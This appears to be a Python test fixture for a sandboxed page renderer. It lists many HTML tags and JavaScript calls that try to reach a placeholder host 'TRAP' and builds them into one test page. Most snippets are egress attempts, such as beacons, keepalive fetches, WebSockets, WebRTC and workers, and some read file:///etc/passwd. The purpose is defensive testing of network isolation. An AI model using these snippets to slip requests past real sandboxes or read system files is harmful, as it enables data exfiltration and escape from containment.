"""Ways in which a page may try to reach a server past the daemon: markup and scripts, with TRAP for where they aim."""

from __future__ import annotations

MARKUP: dict[str, str] = {
    "image": '<img src="http://TRAP/image">',
    "image set": '<img srcset="http://TRAP/srcset 2x">',
    "picture": '<picture><source srcset="http://TRAP/picture"><img></picture>',
    "svg": '<svg><image href="http://TRAP/svg"/><use href="http://TRAP/use#x"/></svg>',
    "frame": '<iframe src="http://TRAP/frame"></iframe>',
    "frame of a file": '<iframe src="file:///etc/passwd"></iframe>',
    "frame with a document": "<iframe srcdoc=\"<img src='http://TRAP/srcdoc'><script src='http://TRAP/srcdoc.js'></script>\">"
    "</iframe>",
    "frame that refreshes": "<iframe srcdoc=\"<meta http-equiv=refresh content='0;url=http://TRAP/refresh'>\"></iframe>",
    "frame of data": "<iframe src=\"data:text/html,<script>fetch('http://TRAP/data')</script><img src=http://TRAP/dataimg>\">"
    "</iframe>",
    "object": '<object data="http://TRAP/object"></object><embed src="http://TRAP/embed">',
    "media": '<video src="http://TRAP/video" poster="http://TRAP/poster" autoplay></video>'
    '<audio src="http://TRAP/audio" autoplay></audio>',
    "style": '<style>@import "http://TRAP/import"; @font-face {font-family: x; src: url(http://TRAP/font)}'
    "body {font-family: x; background: url(http://TRAP/background)}</style>",
    "style sheet": '<link rel="stylesheet" href="http://TRAP/style">',
    "icon": '<link rel="icon" href="http://TRAP/icon"><link rel="manifest" href="http://TRAP/manifest">',
    "preconnect": '<link rel="preconnect" href="http://TRAP"><link rel="dns-prefetch" href="http://TRAP">',
    "prefetch": '<link rel="prefetch" href="http://TRAP/prefetch"><link rel="prerender" href="http://TRAP/prerender">',
    "preload": '<link rel="preload" as="script" href="http://TRAP/preload"><link rel="preload" as="image" '
    'href="http://TRAP/preload2"><link rel="modulepreload" href="http://TRAP/modulepreload">',
    "speculation": '<script type="speculationrules">{"prefetch": [{"source": "list", "urls": ["http://TRAP/spec"]}], '
    '"prerender": [{"source": "list", "urls": ["http://TRAP/spec2"]}]}</script>',
    "script": '<script src="http://TRAP/script"></script><script type="module" src="http://TRAP/module"></script>',
    "ping": '<a id="ping" href="#x" ping="http://TRAP/ping">x</a><script>document.getElementById("ping").click()</script>',
    "form": '<form id="form" action="http://TRAP/form" method="post" target="sink"></form><iframe name="sink"></iframe>'
    '<script>document.getElementById("form").submit()</script>',
}

_WORKER = "new Worker(URL.createObjectURL(new Blob([`{}`])))"
_SHARED = "new SharedWorker(URL.createObjectURL(new Blob([`{}`])))"

SCRIPTS: dict[str, str] = {
    "fetch": "fetch('http://TRAP/fetch')",
    "fetch without cors": "fetch('http://TRAP/nocors', {mode: 'no-cors'})",
    "fetch that outlives the page": "fetch('http://TRAP/keepalive', {method: 'POST', body: 'x', keepalive: true})",
    "fetch with a preflight": "fetch('http://TRAP/preflight', {method: 'PUT', headers: {'X-A': '1'}})",
    "fetch of a file": "fetch('file:///etc/passwd').then(r => r.text()).then(say)",
    "fetch by a redirect": "fetch('/hop').then(r => r.text()).then(say)",
    "fetch later": "fetchLater('http://TRAP/later', {activateAfter: 0})",
    "request": "const x = new XMLHttpRequest(); x.open('GET', 'http://TRAP/xhr'); x.send()",
    "beacon": "navigator.sendBeacon('http://TRAP/beacon', 'x')",
    "event source": "new EventSource('http://TRAP/events')",
    "web socket": "new WebSocket('ws://TRAP/socket')",
    "web socket of a frame": "const f = document.createElement('iframe'); document.body.append(f);"
    "new f.contentWindow.WebSocket('ws://TRAP/framesocket')",
    "web transport": "new WebTransport('https://TRAP/transport')",
    "image": "new Image().src = 'http://TRAP/newimage'",
    "import": "import('http://TRAP/import.js')",
    "worker": "new Worker('http://TRAP/worker.js')",
    "worker's fetch": _WORKER.format("fetch('http://TRAP/workerfetch')"),
    "worker's import": _WORKER.format("importScripts('http://TRAP/workerimport')"),
    "worker's web socket": _WORKER.format("new WebSocket('ws://TRAP/workersocket')"),
    "worker's event source": _WORKER.format("new EventSource('http://TRAP/workerevents')"),
    "worker's request": _WORKER.format(
        "const x = new XMLHttpRequest(); x.open('GET', 'http://TRAP/wx', false); x.send()"
    ),
    "worker's worker": _WORKER.format("new Worker('http://TRAP/inner.js'); fetch('/hop')"),
    "shared worker": "new SharedWorker('/shared.js')",
    "shared worker's fetch": _SHARED.format("fetch('http://TRAP/sharedfetch')"),
    "shared worker's web socket": _SHARED.format("new WebSocket('ws://TRAP/sharedsocket')"),
    "service worker": "navigator.serviceWorker.register('/service.js')",
    "service worker of a frame": "const f = document.createElement('iframe'); document.body.append(f);"
    "f.contentWindow.navigator.serviceWorker.register('/service.js')",
    "worklet": "CSS.paintWorklet && CSS.paintWorklet.addModule('http://TRAP/worklet')",
    "audio worklet": "new OfflineAudioContext(1, 1, 8000).audioWorklet.addModule('http://TRAP/audioworklet')",
    "peer": "const p = new RTCPeerConnection({iceServers: [{urls: 'stun:TRAP'}, {urls: ['turn:TRAP?transport=tcp', "
    "'turn:TRAP?transport=udp'], username: 'a', credential: 'b'}]}); p.createDataChannel('x');"
    "p.createOffer().then(o => p.setLocalDescription(o))",
    "window": "const w = window.open('http://TRAP/window'); if (w) w.location = 'http://TRAP/window2'",
    "window of a file": "window.open('file:///etc/passwd')",
    "blob": "const f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob("
    "['<script>fetch(\"http://TRAP/blob\")</' + 'script>'], {type: 'text/html'})); document.body.append(f)",
    "leaving": "addEventListener('pagehide', () => navigator.sendBeacon('http://TRAP/leaving', 'x'))",
    "payment": "navigator.credentials && navigator.credentials.get({identity: {providers: "
    "[{configURL: 'http://TRAP/fedcm', clientId: '1'}]}})",
    "caches": "caches.open('x').then(c => c.add('http://TRAP/cache'))",
}

#: What workers are given by the page's own server: a script that tries, too.
WORKER_SCRIPT = (
    "fetch('http://TRAP/ownworker'); new WebSocket('ws://TRAP/ownsocket'); importScripts('http://TRAP/own.js')"
)


def page_of_all(trap: str) -> str:
    """One page that tries everything, and marks its own end."""
    tries = "".join(f"try {{ (() => {{ {text} }})() }} catch (error) {{ }}\n" for text in SCRIPTS.values())
    ignored = "addEventListener('unhandledrejection', event => event.preventDefault());"
    body = (
        f'<p id="said"></p>{"".join(MARKUP.values())}<script>const say = w => document.body.append(w);{ignored}{tries}'
    )
    return f"{body}setTimeout(() => document.getElementById('said').append('tried'), 200)</script>".replace(
        "TRAP", trap
    )
